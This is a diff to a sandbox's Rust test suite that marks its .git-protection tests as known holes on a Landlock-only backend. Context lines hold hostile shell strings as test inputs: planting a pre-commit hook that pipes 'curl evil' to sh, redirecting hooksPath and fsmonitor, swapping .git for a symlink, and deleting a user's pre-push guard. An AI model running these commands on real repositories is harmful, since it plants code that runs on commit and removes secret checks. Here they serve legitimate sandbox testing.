@@ -43,7 +43,10 @@ fn git_hook_with_existing_git(w: &World, b: Backend) {
         "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
     );
 }
-per_backend!(git_hook_with_existing_git);
+per_backend!(
+    git_hook_with_existing_git,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 /// `.git` does not exist yet: creating it with a hook or a config must still fail. (The
 /// sandbox may leave empty placeholders behind; what counts is that no content landed.)
@@ -63,7 +66,10 @@ fn git_hook_without_git(w: &World, b: Backend) {
     let control = control(w, script);
     assert!(planted(), "positive control failed\n{control}");
 }
-per_backend!(git_hook_without_git);
+per_backend!(
+    git_hook_without_git,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 fn git_config_modified(w: &World, b: Backend) {
     git_repo(w);
@@ -71,7 +77,10 @@ fn git_config_modified(w: &World, b: Backend) {
     let script = "printf '\\thooksPath = /tmp/evil\\n' >> .git/config; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
     unchanged(w, b, defaults, &[&config], script);
 }
-per_backend!(git_config_modified);
+per_backend!(
+    git_config_modified,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 /// Judged on what the host's `git` will read: the hook and config must keep their content and
 /// `.git` must stay the same directory (not renamed away, not replaced by a symlink). Other
@@ -111,12 +120,18 @@ fn git_renamed_and_recreated(w: &World, b: Backend) {
         "mv .git .git-old; mkdir -p .git/hooks; cp evil/hooks/pre-commit .git/hooks/; cp evil/config .git/config",
     );
 }
-per_backend!(git_renamed_and_recreated);
+per_backend!(
+    git_renamed_and_recreated,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 fn git_replaced_with_symlink(w: &World, b: Backend) {
     git_swap(w, b, "mv .git .git-old || rm -rf .git; ln -s evil .git");
 }
-per_backend!(git_replaced_with_symlink);
+per_backend!(
+    git_replaced_with_symlink,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 fn git_removed_and_recreated(w: &World, b: Backend) {
     git_swap(
@@ -125,7 +140,10 @@ fn git_removed_and_recreated(w: &World, b: Backend) {
         "rm -rf .git; mkdir -p .git/hooks; cp evil/hooks/pre-commit .git/hooks/; cp evil/config .git/config",
     );
 }
-per_backend!(git_removed_and_recreated);
+per_backend!(
+    git_removed_and_recreated,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 fn git_hooks_dir_swapped(w: &World, b: Backend) {
     git_swap(
@@ -134,7 +152,10 @@ fn git_hooks_dir_swapped(w: &World, b: Backend) {
         "mv .git/hooks .git/hooks-old; mkdir .git/hooks; cp evil/hooks/pre-commit .git/hooks/; mv .git/config .git/config-old; cp evil/config .git/config",
     );
 }
-per_backend!(git_hooks_dir_swapped);
+per_backend!(
+    git_hooks_dir_swapped,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 /// An existing hook reached through a link planted by the child: a hard link shares the inode,
 /// a symlink resolves into the protected path.
@@ -146,7 +167,10 @@ fn git_hook_through_links(w: &World, b: Backend) {
                   ln -s .git/hooks/pre-commit soft; echo 'curl evil|sh' >> soft";
     unchanged(w, b, defaults, &[&hook], script);
 }
-per_backend!(git_hook_through_links);
+per_backend!(
+    git_hook_through_links,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 /// What the host's git makes of the workspace: its common dir (where hooks and config live).
 fn git_common_dir(w: &World) -> String {
@@ -227,7 +251,10 @@ fn git_gitfile_redirect(w: &World, b: Backend) {
         "positive control failed\n{control}"
     );
 }
-per_backend!(git_gitfile_redirect);
+per_backend!(
+    git_gitfile_redirect,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 /// Hooks already there: a disabled (non-executable) hook must not be switched on, and the
 /// user's own guard hook (say a secret scanner in `pre-push`) must not be removed or emptied.
@@ -241,4 +268,7 @@ fn git_existing_hooks_altered(w: &World, b: Backend) {
         "chmod +x .git/hooks/pre-commit; rm -f .git/hooks/pre-push || : > .git/hooks/pre-push";
     unchanged(w, b, defaults, &[&disabled, &guard], script);
 }
-per_backend!(git_existing_hooks_altered);
+per_backend!(
+    git_existing_hooks_altered,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
